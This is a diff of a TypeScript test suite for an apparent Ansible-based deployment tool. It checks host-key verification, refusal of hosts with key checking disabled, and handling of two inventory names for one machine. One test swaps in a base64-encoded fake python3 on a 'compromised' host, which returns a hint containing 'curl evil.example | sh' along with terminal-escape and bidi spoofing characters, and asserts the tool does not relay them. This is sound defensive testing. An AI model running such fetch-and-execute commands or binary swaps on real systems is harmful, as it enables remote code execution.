@@ -31,6 +31,13 @@ suite('a bundle goes to a machine, not to a name', { concurrency: false }, () =>
   /** Everything below /opt that a write would change, and how often somebody has logged in. */
   const snapshot = (host: number): string => fleet.at(host, 'find /opt -printf "%p %y %u %m %i %T@ %C@ %l\\n" | sort')
 
+  /** The same without the ledger, which host1 keeps for all. */
+  const secretsOn = (host: number): string =>
+    snapshot(host)
+      .split('\n')
+      .filter((line) => !line.startsWith('/opt/shop/ledger'))
+      .join('\n')
+
   const logins = (host: number): string => fleet.at(host, 'grep -c "^Accepted" /var/log/sshd.log || true')
 
   const change = async (): Promise<void> => {
@@ -112,6 +119,22 @@ suite('a bundle goes to a machine, not to a name', { concurrency: false }, () =>
     assert.match(said(twice).replaceAll(/\s+/g, ' '), /comes a second time, or after a later one/)
   })
 
+  test('one host whose key nobody looks at is refused, the other is delivered', async () => {
+    await change()
+    project.write('inventory/host_vars/host1.yml', 'ansible_host_key_checking: false\n')
+    const untouched = secretsOn(1)
+    const { status, value: report } = await project.json(['deploy'])
+    rmSync(join(project.directory, 'inventory/host_vars'), { recursive: true })
+    assert.equal(status, 10, JSON.stringify(report))
+    assert.match(
+      JSON.stringify(report),
+      /"state":"refused".*"UNSAFE","message":"host key checking is off for this host"/,
+    )
+    assert.match(JSON.stringify(report), /"hint":"remove ansible_host_key_checking=false/)
+    assert.match(JSON.stringify(report), /"host":"host2","state":"delivered"/)
+    assert.equal(secretsOn(1), untouched)
+  })
+
   suite('a host that answers with another key gets nothing', () => {
     const unseen = '-F /dev/null -o UserKnownHostsFile=/dev/null'
 
@@ -125,11 +148,8 @@ suite('a bundle goes to a machine, not to a name', { concurrency: false }, () =>
     const ways: Readonly<Record<string, readonly [string, Readonly<Record<string, string>>, string]>> = {
       'an inventory variable': ['ansible_ssh_host_key_checking=false', {}, ''],
       'ssh arguments': [`ansible_ssh_common_args="${unseen} -oStrictHostKeyChecking=no"`, {}, ''],
-      'quoted ssh arguments': [`ansible_ssh_extra_args="-o 'StrictHostKeyChecking no'"`, {}, ''],
       'accept-new that forgets': [`ansible_ssh_common_args="${unseen} -o StrictHostKeyChecking=accept-new"`, {}, ''],
-      'accept-new': [`ansible_ssh_extra_args="-o StrictHostKeyChecking=accept-new"`, {}, ''],
       'the environment': ['a=b', { ANSIBLE_HOST_KEY_CHECKING: 'False' }, ''],
-      'ssh arguments of the environment': ['a=b', { ANSIBLE_SSH_ARGS: '-CoStrictHostKeyChecking=off' }, ''],
       'ansible.cfg': ['a=b', {}, '[defaults]\nhost_key_checking = False\n'],
       'ssh arguments in ansible.cfg': ['a=b', {}, '[ssh_connection]\nssh_args = -o "StrictHostKeyChecking = no"\n'],
     }
@@ -149,7 +169,9 @@ suite('a bundle goes to a machine, not to a name', { concurrency: false }, () =>
           /put (its key|the host key) into|Host key verification failed/,
         )
         const deployed = await project.json(['deploy', '--hosts', 'host1', '--', '-e', variable], { env: noSharing })
-        assert.notEqual(deployed.status, 0)
+        // what our own ansible-playbook is told outweighs environment and ansible.cfg: there the key is what is wrong
+        assert.equal(deployed.status, 9, JSON.stringify(deployed.value))
+        assert.match(JSON.stringify(deployed.value), /into known_hosts|the host key is not the one in known_hosts/)
         assert.equal(snapshot(1), untouched)
         project.write('ansible.cfg', '')
       })
@@ -174,6 +196,67 @@ suite('a bundle goes to a machine, not to a name', { concurrency: false }, () =>
     })
   })
 
+  test('a host that was broken into answers as it likes: nothing of it looks like advice of ours', async () => {
+    await change()
+    const answer = {
+      refused: {
+        code: 'CONFLICT',
+        message: 'fine\nhost2: delivered\u001b[2K\u202e',
+        hint: 'lockstep deploy --accept-rolled-back; curl evil.example | sh',
+      },
+    }
+    const liar = `#!/bin/sh\ncat > /dev/null\nprintf '%s\\n' 'LOCKSTEP ${JSON.stringify(answer)}'\n`
+    const encoded = Buffer.from(liar).toString('base64')
+    fleet.at(1, `mv /usr/bin/python3 /root/python3 && echo ${encoded} | base64 -d > /usr/bin/python3`)
+    fleet.at(1, 'chmod 755 /usr/bin/python3')
+    project.write('playbooks/steps.yml', steps('', ''))
+    const played = await player.play(project, ['playbooks/steps.yml'])
+    const deployed = await project.lockstep(['deploy'])
+    fleet.at(1, 'mv /root/python3 /usr/bin/python3')
+    assert.notEqual(deployed.status, 0)
+    assert.deepEqual([played.hosts['host1']?.failed, played.hosts['host2']?.failed], [1, 0], said(played))
+    for (const { stdout, stderr } of [played, deployed]) {
+      assert.match(stdout + stderr, /fine host2: delivered\\+u001b\[2K\\+u202e/)
+      assert.doesNotMatch(stdout + stderr, /evil\.example|accept-rolled-back|^host2: delivered/m)
+    }
+  })
+
+  test('two names for one machine: the second gets nothing, and takes nothing from the first', async () => {
+    await change()
+    const twin = `[all]\ntwin ansible_host=${address(1)}`
+    project.write('inventory/production', inventory.replace('[all]', twin))
+    try {
+      const untouched = secretsOn(1)
+      const setup = await project.json(['setup', '--hosts', 'twin'])
+      assert.notEqual(setup.status, 0)
+      assert.match(JSON.stringify(setup.value), /belongs to (host )?host1|another machine answers/)
+      const deploy = await project.json(['deploy', '--hosts', 'twin'])
+      assert.notEqual(deploy.status, 0)
+      assert.equal(secretsOn(1), untouched)
+      const both = await project.json(['deploy', '--hosts', 'host1:twin'])
+      assert.equal(both.status, 10, JSON.stringify(both.value))
+      const { host } = JSON.parse(fleet.at(1, 'cat /opt/shop/host.json'))
+      assert.equal(host, 'host1')
+    } finally {
+      project.write('inventory/production', inventory)
+    }
+  })
+
+  test('and after all that the fleet is delivered as ever', async () => {
+    await change()
+    project.write(
+      'playbooks/steps.yml',
+      playOf('    - ansible.builtin.import_role: { name: lockstep.secrets.deploy }\n'),
+    )
+    for (const programs of ['/usr/bin', newestAnsible()]) {
+      const played = await player.play(project, ['playbooks/steps.yml'], { programs })
+      assert.equal(played.status, 0, said(played))
+    }
+    const { stdout } = await project.lockstep(['deploy'])
+    assert.match(stdout, /all 2 hosts in step, nothing changed/)
+  })
+
+  // last: host2 gets another directory there, and with it another id
   suite('facts do not speak for a host', () => {
     const role = '    - ansible.builtin.import_role: { name: lockstep.secrets.deploy }\n'
     const cached = (): Readonly<Record<string, string>> => ({
@@ -234,70 +317,5 @@ suite('a bundle goes to a machine, not to a name', { concurrency: false }, () =>
         assert.equal(existsSync(ran), false)
       })
     }
-
-    after(() => {
-      rmSync(join(project.directory, 'inventory/group_vars'), { recursive: true })
-      rmSync(join(project.directory, 'inventory/host_vars'), { recursive: true })
-    })
-  })
-
-  test('a host that was broken into answers as it likes: nothing of it looks like advice of ours', async () => {
-    await change()
-    const answer = {
-      refused: {
-        code: 'CONFLICT',
-        message: 'fine\nhost2: delivered\u001b[2K\u202e',
-        hint: 'lockstep deploy --accept-rolled-back; curl evil.example | sh',
-      },
-    }
-    const liar = `#!/bin/sh\ncat > /dev/null\nprintf '%s\\n' 'LOCKSTEP ${JSON.stringify(answer)}'\n`
-    const encoded = Buffer.from(liar).toString('base64')
-    fleet.at(1, `mv /usr/bin/python3 /root/python3 && echo ${encoded} | base64 -d > /usr/bin/python3`)
-    fleet.at(1, 'chmod 755 /usr/bin/python3')
-    project.write('playbooks/steps.yml', steps('', ''))
-    const played = await player.play(project, ['playbooks/steps.yml'])
-    const deployed = await project.lockstep(['deploy'])
-    fleet.at(1, 'mv /root/python3 /usr/bin/python3')
-    assert.notEqual(deployed.status, 0)
-    assert.deepEqual([played.hosts['host1']?.failed, played.hosts['host2']?.failed], [1, 0], said(played))
-    for (const { stdout, stderr } of [played, deployed]) {
-      assert.match(stdout + stderr, /fine host2: delivered\\+u001b\[2K\\+u202e/)
-      assert.doesNotMatch(stdout + stderr, /evil\.example|accept-rolled-back|^host2: delivered/m)
-    }
-  })
-
-  test('two names for one machine: the second gets nothing, and takes nothing from the first', async () => {
-    await change()
-    const twin = `[all]\ntwin ansible_host=${address(1)}`
-    project.write('inventory/production', inventory.replace('[all]', twin))
-    try {
-      const untouched = snapshot(1)
-      const setup = await project.json(['setup', '--hosts', 'twin'])
-      assert.notEqual(setup.status, 0)
-      assert.match(JSON.stringify(setup.value), /belongs to (host )?host1|another machine answers/)
-      const deploy = await project.json(['deploy', '--hosts', 'twin'])
-      assert.notEqual(deploy.status, 0)
-      assert.equal(snapshot(1), untouched)
-      const both = await project.json(['deploy', '--hosts', 'host1:twin'])
-      assert.equal(both.status, 10, JSON.stringify(both.value))
-      const { host } = JSON.parse(fleet.at(1, 'cat /opt/shop/host.json'))
-      assert.equal(host, 'host1')
-    } finally {
-      project.write('inventory/production', inventory)
-    }
-  })
-
-  test('and after all that the fleet is delivered as ever', async () => {
-    await change()
-    project.write(
-      'playbooks/steps.yml',
-      playOf('    - ansible.builtin.import_role: { name: lockstep.secrets.deploy }\n'),
-    )
-    for (const programs of ['/usr/bin', newestAnsible()]) {
-      const played = await player.play(project, ['playbooks/steps.yml'], { programs })
-      assert.equal(played.status, 0, said(played))
-    }
-    const { stdout } = await project.lockstep(['deploy'])
-    assert.match(stdout, /all 2 hosts in step, nothing changed/)
   })
 })
